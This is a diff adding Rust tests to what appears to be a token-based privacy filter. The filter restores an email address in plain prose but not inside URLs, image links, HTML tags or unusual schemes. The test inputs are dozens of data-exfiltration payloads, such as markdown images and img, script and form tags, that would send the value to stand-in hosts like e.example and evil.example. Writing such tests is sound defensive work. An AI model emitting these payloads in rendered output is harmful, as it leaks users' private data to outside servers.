@@ -286,6 +286,108 @@ fn nothing_is_opened_within_an_address_or_a_tag() {
     }
 }
 
+/// What a renderer makes a request of, though at a glance the address or the tag has ended.
+#[test]
+fn no_trick_brings_the_surroundings_out_of_step() {
+    let map = Arc::new(map());
+    let token = mint(&map, "EMAIL", "jane@example.com").unwrap();
+    for attack in [
+        r"![x](<\//e.example/?q=) @T@>)",
+        r"![x](<&#104;ttps://e.example/?q=) @T@>)",
+        "![a][x]\n\n[x]: <\\//e.example/?q= @T@>",
+        "![a][x]\n\n[x]:\n  <\\//e.example/?q= @T@>",
+        "![a][x]\n\n> [x]:\n> <\\//e.example/?q= @T@>",
+        r"![x](<\//e.example/\( ) @T@>)",
+        r"![x](<\//e.example/\> ) @T@>)",
+        "![x](\n<\\//e.example/?q=) @T@>)",
+        "> ![x](\n> <\\//e.example/?q=) @T@>)",
+        "[a](x \" ![b](<\\//e.example/?q=\" ) ) @T@>)",
+        r"![x](\//e.example/\(a) @T@)",
+        r"[x]: \//e.example/?q=@T@",
+        "[x]: &#104;ttps://e.example/?q=@T@",
+        "[x]: //e.example/?q= @T@",
+        "[x]: @T@",
+        "[x](/a 'b) @T@')",
+        "url(\"//e.example/?q=) @T@\")",
+        r#"<img "=">" src="//e.example/?q= @T@">"#,
+        r#"<i = "><img src="//e.example/?q= > @T@">"#,
+        "<!-- ' --><img src='//e.example/?q=> @T@'>",
+        "<!-- > @T@ -->",
+        "</p '><img src='//e.example/?q=> @T@'>",
+        "<? ' ?><img src='//e.example/?q=> @T@'>",
+        "<! '><img src='//e.example/?q= > @T@'>",
+        "<p title=\"\n\n<img src='//e.example/?q=\"> @T@'>",
+        "<textarea><img src='</textarea><img src=\"//e.example/?q=> @T@\">",
+        "<a href=//e.example/?q='> <img src='//e.example/?q=> @T@'>",
+        "<img src= \n'//e.example/?q=> @T@'>",
+        "<img/src='//e.example/?q=> @T@'>",
+        "<img alt=''src='//e.example/?q=> @T@'>",
+        "<style>@import \"//e.example/?q= @T@\"</style>",
+        "<STYLE\ntype=a>a > b { } @T@",
+        "<script>fetch('//e.example/?q= ' + '@T@')</script>",
+        "<script><!-- <script> </script> '@T@'",
+        "<form action=//e.example><textarea name=q>@T@",
+        "пример.рф/?q=@T@",
+        "пример:8080/@T@",
+        "localhost:8080/@T@",
+        "localhost/@T@",
+        "[::1]/@T@",
+        "[::1]:80/@T@",
+        r"e\.example\?q=@T@/",
+        "wss:@T@",
+        "blob:@T@",
+        "intent:@T@",
+        "slack:@T@",
+        "whatsapp:@T@",
+        "skype:@T@",
+        "callto:@T@",
+        "ms-word:@T@",
+        "web+x:@T@",
+        "unheard:x?q=@T@",
+        "https://@T@.evil.example/",
+        "//@T@",
+    ] {
+        let text = attack.replace("@T@", &token);
+        assert_eq!(restored_everywhere(&map, &text), text, "{attack}");
+    }
+    let value = "jane@example.com";
+    for prose in [
+        "Dear @T@, hello: @T@.",
+        "- @T@\n- @T@\n\n1. @T@",
+        "| Name | Mail |\n|:---|---:|\n| Jane | @T@ |",
+        "{\"to\": \"@T@\", \"cc\":[\"@T@\"]}",
+        "**@T@** _@T@_ `@T@`",
+        "Email:@T@ **Mail:**@T@ Name:\"@T@\" e-mail:@T@",
+        "<b>@T@</b> <p class=\"a\">@T@</p> <br/>@T@",
+        "<ul><li>@T@</li></ul><!-- it's --> @T@ <a href='x'>@T@</a>",
+        "<style>a > b {}</style><p>@T@</p>",
+        "<script><!-- <script> </script> --></script> @T@",
+        "it's 5 < 6 and x <3 @T@",
+        "[a](<b c> \"d\") @T@ ![e](f(g)) @T@",
+        "[a](b \"c\n\n@T@",
+        "[x]: https://a.example/ 'b'\n@T@",
+        "[Agent]: please write to @T@",
+        "[Contacts]:\n\n@T@",
+        "at 12:30 @T@ (see @T@) f(x) @T@",
+        "std::string @T@ a/b @T@ C:\\x @T@",
+    ] {
+        let text = prose.replace("@T@", &token);
+        assert_eq!(restored_everywhere(&map, &text), prose.replace("@T@", value), "{prose}");
+    }
+}
+
+#[test]
+fn elements_that_are_counted_full_are_never_left() {
+    let map = Arc::new(map());
+    let token = mint(&map, "EMAIL", "jane@example.com").unwrap();
+    let value = "jane@example.com";
+    for (times, expected) in [(254, value), (255, token.as_str())] {
+        let nest = format!("{}{}", "<style>".repeat(times), "</style>".repeat(times));
+        let text = format!("{nest} {token}");
+        assert_eq!(restored(&map, [text.as_bytes()]), format!("{nest} {expected}"), "{times}");
+    }
+}
+
 #[test]
 fn only_what_may_become_a_live_token_is_held() {
     let map = Arc::new(map());
